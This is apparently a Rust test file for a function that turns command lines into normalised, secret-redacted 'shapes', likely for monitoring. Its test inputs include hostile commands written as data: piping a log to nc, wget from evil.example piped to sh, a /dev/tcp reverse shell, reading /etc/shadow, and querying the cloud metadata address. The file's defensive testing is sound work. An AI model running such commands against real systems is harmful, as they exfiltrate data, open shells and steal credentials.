use proptest::prelude::*;

use super::*;

#[track_caller]
fn has_shape(argv: &[&str], expected: &str) {
    assert_eq!(shape(argv), expected);
}

#[test]
fn flags_stay_and_values_have_types() {
    has_shape(&[], "");
    has_shape(&["/usr/sbin/nginx"], "nginx");
    has_shape(
        &["nginx", "-g", "daemon off;", "-c", "/etc/nginx/nginx.conf"],
        "nginx -g {word} -c /etc/nginx/{any}.conf",
    );
    has_shape(
        &["app", "--port=8080", "--port", "9090"],
        "app --port={n} --port {n}",
    );
    has_shape(&["app", "-p8080", "-j4", "-xvf"], "app -p{n} -j{n} -xvf");
    has_shape(&["kill", "-9", "4711"], "kill -9 {n}");
    has_shape(&["tail", "-1000", "x"], "tail -{n} x");
    has_shape(&["ping", "8.8.8.8"], "ping {public}");
    has_shape(&["nc", "10.0.0.1", "4444"], "nc {private} {n}");
    has_shape(
        &["a", "[::1]:80", "10.0.0.0/8"],
        "a {loopback}:80 {private}/8",
    );
    has_shape(
        &["curl", "-s", "https://user:pw@Example.com:8443/a/b.sh?x=1"],
        "curl -s https://{secret}@example.com:8443/{any}.sh",
    );
    has_shape(
        &["curl", "http://169.254.169.254/latest"],
        "curl http://{metadata}/{any}",
    );
    has_shape(
        &["job", "d2c1a7f6-1b1c-4c0e-8f5e-0123456789ab", "20240102"],
        "job {uuid} {date}",
    );
    has_shape(
        &["dd", "if=/dev/sda", "of=/tmp/x.img"],
        "dd if=/dev/sda of=/tmp/{any}.img",
    );
    has_shape(&["cat", "/etc/shadow"], "cat /etc/shadow");
    has_shape(&["cat", "/etc/hosts", "/etc/passwd"], "cat /etc/{any}");
    has_shape(&["x", "", "-", "--"], "x '' - --");
    has_shape(&["x", &"long".repeat(20), "caf\u{e9}"], "x {word}");
}

#[test]
fn secrets_are_not_told() {
    has_shape(&["a", "--password=hunter"], "a --password={secret}");
    has_shape(
        &["a", "--api-token", "hunter", "x"],
        "a --api-token {secret} x",
    );
    has_shape(
        &["env", "PGPASSWORD=hunter", "psql"],
        "env PGPASSWORD={secret} psql",
    );
}

#[test]
fn a_script_keeps_what_it_does() {
    has_shape(
        &["sh", "-c", "cat /var/log/app/a.log | nc 1.2.3.4 4444"],
        "sh -c \"cat /var/log/{any}.log | nc {public} {n}\"",
    );
    has_shape(
        &[
            "/bin/bash",
            "-lc",
            "cd /srv && FOO=1 exec ./run --n=3 2>/dev/null",
        ],
        "bash -lc \"cd /{any} && FOO={n} exec run --n={n} 2> /dev/null\"",
    );
    has_shape(
        &[
            "busybox",
            "sh",
            "-c",
            "wget -q -O- http://evil.example/x.sh|sh",
        ],
        "busybox sh -c \"wget -q -O- http://evil.example/{any}.sh | sh\"",
    );
    has_shape(
        &["sh", "-c", "echo \"$(id -u) x\" `whoami` 'a b' # no\nls"],
        "sh -c \"echo $( id -u ) {word} ` whoami ` {word} ; ls\"",
    );
    has_shape(
        &["sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        "sh -c \"bash -i >& /dev/tcp/{any} 0>& {n}\"",
    );
    has_shape(
        &["python3.11", "-c", "import os; os.system('/tmp/x')"],
        "python3.11 -c \"import os ; os.system ( '/tmp/{any}' )\"",
    );
    has_shape(&["perl", "-e", "print 1+2"], "perl -e \"print {n} + {n}\"");
    has_shape(&["php", "-r", "$x=1;"], "php -r \"$x = {n} ;\"");
    has_shape(
        &["node", "--eval", "a({})"],
        "node --eval \"a (\\x7b\\x7d)\"",
    );
    // A file with a script, and its arguments.
    has_shape(
        &["sh", "/x/run.sh", "-c", "a b"],
        "sh /x/{any}.sh -c {word}",
    );
}

#[test]
fn long_shapes_end_with_a_digest() {
    let words = |last: &str| -> Vec<String> {
        let mut words: Vec<_> = (0..100)
            .map(|at| format!("w{}", "ab".repeat(at % 7)))
            .collect();
        words.push(last.to_owned());
        words
    };
    let (one, other) = (shape(&words("x")), shape(&words("y")));
    assert_eq!(one.len(), MAX_SHAPE);
    assert_ne!(one, other);
    assert_eq!(
        one[..MAX_SHAPE - digest::LENGTH],
        other[..MAX_SHAPE - digest::LENGTH]
    );
    let script = "a;".repeat(100);
    let shape = shape(&["sh", "-c", &script]);
    assert_eq!(shape.split(' ').filter(|token| *token == ";").count(), 32);
    assert!(shape.contains("{more:"));
}

#[test]
fn the_coarse_form_has_only_flags() {
    let coarse = |argv: &[&str]| flags_only(argv);
    assert_eq!(
        coarse(&["/bin/app", "run", "--port=1", "-p80", "-v", "x", "-v"]),
        "app --port -p -v"
    );
    assert_eq!(coarse(&["sh", "-c", "-x y"]), "sh -c {script}");
    assert_eq!(coarse(&[]), "");
}

proptest! {
    #[test]
    fn any_bytes_have_a_bounded_shape(
        program in prop::sample::select(vec!["x", "sh", "perl", "busybox"]),
        mut argv in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..60), 0..40),
        flag in prop::sample::select(vec!["-c", "-e", "sh"]),
    ) {
        argv.insert(0, flag.into());
        argv.insert(0, program.into());
        for shape in [shape(&argv), flags_only(&argv)] {
            prop_assert!(shape.len() <= MAX_SHAPE);
            prop_assert!(shape.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{}", shape);
        }
    }

    #[test]
    fn any_script_has_a_bounded_shape(script in "[ -~\\n]{0,300}", python: bool) {
        let argv = if python { ["python3", "-c", &script] } else { ["sh", "-c", &script] };
        let shape = shape(&argv);
        prop_assert!(shape.len() <= MAX_SHAPE && shape.is_ascii());
        prop_assert_eq!(shape, super::shape(&argv));
    }
}
